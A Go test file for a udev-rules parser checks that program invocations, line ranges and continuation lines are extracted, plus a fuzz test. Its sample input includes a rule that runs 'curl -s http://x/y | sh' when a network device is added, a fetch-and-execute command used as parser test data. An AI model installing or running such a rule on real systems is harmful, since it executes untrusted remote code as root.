package udevrules

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestParse(t *testing.T) {
	rs := Parse([]byte(`# c
ACTION=="add", SUBSYSTEM=="net", RUN+="/bin/sh -c 'curl -s http://x/y | sh'"
KERNEL=="sd*", IMPORT{builtin}="path_id", IMPORT{program}="scsi_id --export $devnode", \
  PROGRAM="/usr/lib/udev/x %k", RUN{builtin}+="kmod load $env{MODALIAS}"
`))
	require.Len(t, rs, 2)
	assert.Equal(t, []Program{{"RUN", "/bin/sh -c 'curl -s http://x/y | sh'"}}, rs[0].Programs)
	assert.Equal(t, 3, rs[1].First)
	assert.Equal(t, 4, rs[1].Last)
	assert.Equal(t, []Program{{"IMPORT", "scsi_id --export $devnode"}, {"PROGRAM", "/usr/lib/udev/x %k"}}, rs[1].Programs)
}

func FuzzParse(f *testing.F) {
	f.Add([]byte("RUN+=\"/tmp/x\" \\\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, r := range Parse(data) {
			if r.First < 1 || r.Last < r.First {
				t.Fatal(r)
			}
		}
	})
}
